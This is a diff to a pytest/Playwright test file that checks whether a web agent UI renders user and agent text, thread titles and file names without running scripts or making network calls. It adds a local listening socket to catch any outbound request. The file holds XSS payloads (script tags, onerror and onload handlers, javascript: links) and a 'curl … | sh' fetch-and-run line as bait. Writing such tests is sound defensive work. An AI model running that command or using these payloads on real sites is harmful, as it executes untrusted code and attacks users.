@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import re
+import socket
 from collections.abc import Callable, Iterator
 from pathlib import Path
 from typing import Any
@@ -15,13 +16,22 @@ from serving import Served
 
 PANELS = ("Canvas", "Files", "Terminal", "Agent", "Trace", "Usage", "Approvals", "Replay")
 BOLD = "Run the command: curl https://example.com/install | sh"
+TRAP = socket.create_server(("127.0.0.1", 0))  # where nobody comes who obeys the policy of the page
+TRAP.settimeout(0.05)
+ELSEWHERE = f"http://127.0.0.1:{TRAP.getsockname()[1]}"
 BAIT = (
-    "<script>caught()</script><img src=http://127.0.0.1:9/i onerror=caught()>"
-    "<style>*{background:url(http://127.0.0.1:9/s)}</style><svg onload=caught()></svg>"
+    f"<script>caught()</script><img src={ELSEWHERE}/i onerror=caught()>"
+    f"<style>*{{background:url({ELSEWHERE}/s)}}</style><svg onload=caught()></svg>"
     "<a href=javascript:caught()>x</a><iframe srcdoc='<script>parent.caught()</script>'></iframe>"
-    "[x](javascript:caught()) ![x](http://127.0.0.1:9/m)"
+    f"[x](javascript:caught()) ![x]({ELSEWHERE}/m)"
 )
 NAME = "<img src=x onerror=caught()>.txt"
+
+
+@pytest.fixture(scope="module", autouse=True)
+def trap() -> Iterator[None]:
+    yield
+    TRAP.close()
 
 
 @pytest.fixture(scope="module")
@@ -47,6 +57,8 @@ def watched(browser: Browser, server: Served) -> Iterator[Page]:
         page.reload()
         page.wait_for_selector("#message")
         yield page
+        with pytest.raises(TimeoutError):
+            TRAP.accept()
         assert page.evaluate("window.isCaught === undefined")
         assert page.locator("[onerror], [onload], iframe[srcdoc*=caught], a[href^=javascript]").count() == 0
         assert page.locator(".items script, .items img:not([src^='data:']), .items style").count() == 0
@@ -55,7 +67,8 @@ def watched(browser: Browser, server: Served) -> Iterator[Page]:
 def test_words_and_titles_run_nothing(watched: Page, server: Served) -> None:
     watched.select_option("#agent", "echo")
     talk(watched, BAIT)  # the user says it, and so does the agent
-    assert watched.get_by_text("caught()").count() >= 2
+    for who in ("said", "reply"):
+        expect(watched.locator(f"article.{who}")).to_contain_text("caught()")
     asking(server, "bob")("PATCH", f"/threads/{thread_of(watched)}", {"title": BAIT[:400]})
     expect(watched.locator(".thread-row b").first).to_contain_text("<script>")
     watched.get_by_placeholder("Search").fill("caught")
